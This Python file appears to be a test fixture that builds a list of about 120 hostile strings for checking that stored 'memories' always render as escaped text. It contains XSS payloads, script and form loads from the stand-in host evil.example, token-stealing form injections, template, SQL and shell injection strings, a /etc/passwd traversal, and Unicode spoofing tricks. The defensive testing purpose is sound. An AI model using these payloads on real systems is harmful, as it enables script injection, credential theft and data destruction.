"""Memories that attack whoever shows them: 120 texts, each of which must stay a text on every page."""

_SCRIPTS = """
<script>alert(1)</script>|<ScRiPt>alert(1)</sCrIpT>|<script src=//evil.example/x.js></script>|<script>//
</title><script>alert(1)</script>|</textarea><script>alert(1)</script>|</style><script>alert(1)</script>
--><script>alert(1)</script>|]]><script>alert(1)</script>|<script>alert`1`</script>
<<script>alert(1)//<</script>|<scr<script>ipt>alert(1)</scr</script>ipt>|<script/x>alert(1)</script>
<script|src=data:text/javascript,alert(1)></script>|&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)|%3Cscript%3Ealert(1)%3C/script%3E|\\u003cscript\\u003ealert(1)
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>|<xmp><script>alert(1)</script></xmp>
<base href=//evil.example/>
"""
_HANDLERS = """
<img src=x onerror=alert(1)>|<img src=x onerror="alert(1)">|<body onload=alert(1)>
<input autofocus onfocus=alert(1)>|<details open ontoggle=alert(1)>|<video><source onerror=alert(1)>
<audio src=x onerror=alert(1)>|<marquee onstart=alert(1)>|<select autofocus onfocus=alert(1)>
<iframe onload=alert(1)></iframe>|" onmouseover="alert(1)|' onmouseover='alert(1)
" autofocus onfocus="alert(1)|` onclick=alert(1)|" style="position:fixed
<div style="animation-name:x" onanimationstart=alert(1)>
<button popovertarget=x>y</button><div popover id=x onbeforetoggle=alert(1)>
<form id=main></form><form action=//evil.example><button>Approve|<input name=form_token value=stolen>
<button formaction=//evil.example>Approve</button>|<a href=# hx-post=/console/decide hx-trigger=load>x</a>
<div hx-get=/console/sign-out hx-trigger=load></div>|<div hx-on::load=alert(1)>
<div data-hx-get=/x data-hx-trigger=load>
"""
_SHAPES = """
<svg onload=alert(1)>|<svg><script>alert(1)</script></svg>
<svg><a href=javascript:alert(1)><text y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>
<math><mtext><img src=x onerror=alert(1)></mtext></math>|<svg><style>*{display:none}</style></svg>
<style>*{display:none!important}</style>|<link rel=stylesheet href=//evil.example/x.css>
<math href="javascript:alert(1)">x</math>|<svg/onload=alert(1)//|<image src=x onerror=alert(1)>
<object data=//evil.example>
"""
_ADDRESSES = """
javascript:alert(1)|JaVaScRiPt:alert(1)|java&#09;script:alert(1)|data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==|vbscript:msgbox(1)
<a href="javascript:alert(1)">x</a>|<a href=" &#14; javascript:alert(1)">x</a>
<iframe src=javascript:alert(1)>|<iframe srcdoc="<script>alert(1)</script>">
<embed src=data:text/html,alert(1)>|<meta http-equiv=refresh content="0;url=//evil.example">
//evil.example/%2f..|http://127.0.0.1@evil.example/|<a href=//evil.example target=_top>Approve all</a>
<img src="//evil.example/pixel.gif">
"""
_TEMPLATES = """
{{7*7}}|{{ config }}|{% for x in y %}|{{ ''.__class__.__mro__ }}|${7*7}|#{7*7}|<%= 7*7 %>|[[7*7]]
{{constructor.constructor('alert(1)')()}}|[click](javascript:alert(1))|![x](x" onerror="alert(1))
[x]: javascript:alert(1)|<!--#exec cmd="ls"-->|`<img src=x onerror=alert(1)>`
```</pre><script>alert(1)</script>|<?php echo 1 ?>|%s%s%s%n|../../../../etc/passwd
'; DROP TABLE memory; --|$(touch /tmp/x)
"""
_UNSEEN = [
    "\u202egnp.exe\u202c is safe",
    "user\u2066 // only admin \u2069\u2066",
    "\u202e" * 200 + "reversed",
    "a\u200bb\u200cc\u200dd",
    "\ufeffbyte order",
    "p\u0430yp\u0430l.example",
    "\u2028line\u2029paragraph",
    "bell\x07esc\x1b[31mred",
    "tab\tand\vvertical\fform",
    "tag\U000e0041\U000e0042s",
    "z" + "\u0301" * 500,
    "ﷺ" * 300,
    "𒐫" * 200,
    "\u061c\u200f\u200eمرحبا (approve)",
    "soft\u00adhyphen" * 50,
    "⟦U+202E⟧ is written by hand",
    "lone \ufffd and \ufffe and \uffff",
    "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f" * 20,
    "variation\ufe01selector\U000e0100",
    "\u3164\u115f\u1160 blank letters",
]
_LONG = [
    "x" * 65_000,
    "word " * 13_000,
    "<b>" * 21_000,
    "\n" * 2_000 + "below",
    "W" * 5_000,
    "-" * 3_000 + "\t" * 500,
    "https://example.org/" + "a" * 4_000,
    "\u0645" * 10_000,
]


def _split(*pages: str) -> list[str]:
    return [text for page in pages for line in page.strip().splitlines() for text in line.split("|")]


_ALL = [*_split(_SCRIPTS, _HANDLERS, _SHAPES, _ADDRESSES, _TEMPLATES), *_UNSEEN, *_LONG]
HOSTILE = [text for text in dict.fromkeys(_ALL) if text.strip()]
